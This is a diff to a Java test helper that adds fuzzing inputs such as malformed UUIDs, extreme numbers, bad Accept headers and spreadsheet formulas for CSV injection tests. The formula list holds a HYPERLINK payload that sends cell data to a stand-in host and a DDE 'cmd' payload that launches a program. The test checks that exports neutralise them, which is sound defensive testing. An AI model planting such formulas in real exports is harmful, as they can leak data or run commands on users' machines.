@@ -74,7 +74,7 @@ final class Mutations {
             "not-a-uuid", "123", "00000000-0000-0000-0000-00000000000g", "00000000000000000000000000000000x",
             "{00000000-0000-0000-0000-000000000000}", "00000000-0000-0000-0000-0000000000000",
             "0000000-0000-0000-0000-000000000000", "zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz", "-1", "null",
-            "undefined", "a".repeat(300));
+            "undefined", "a".repeat(300), "1-1-1-1-1", " 00000000-0000-0000-0000-000000000000");
 
     /** Malformed municipality codes (not a wrong check digit: those are computed). */
     static final List<String> MALFORMED_CODES = List.of(
@@ -94,6 +94,21 @@ final class Mutations {
         }
         return codes;
     }
+
+    /** Spreadsheet formulas (OWASP CSV injection): stored as text, exported neutralised. */
+    static final List<String> FORMULAS = List.of(
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1", "=1+1");
+
+    /** Numbers no figure column and no integer field can hold (1E+2147483647 once overflowed a digit count). */
+    static final List<String> NUMBER_EXTREMES = List.of(
+            "1E+2147483647", "-1E+2147483647", "1E-2147483647", "1e400", "-1e400", "12345678901234567",
+            "0.00001", "9223372036854775808", "1E+16");
+
+    /** Accept headers that are not media ranges at all. */
+    static final List<String> MALFORMED_ACCEPTS = List.of(
+            "", ",", ";", "text/", "/json", "*/*;q=abc", "application/json;;;", "application/json; q=2",
+            "text/csv, ,", "\"quoted\"", "a".repeat(500), "*/*;q=0");
 
     static final List<String> PAGING_JUNK = List.of(
             "-1", "-2147483648", "-2147483649", "2147483648", "9223372036854775808", "99999999999999999999999",
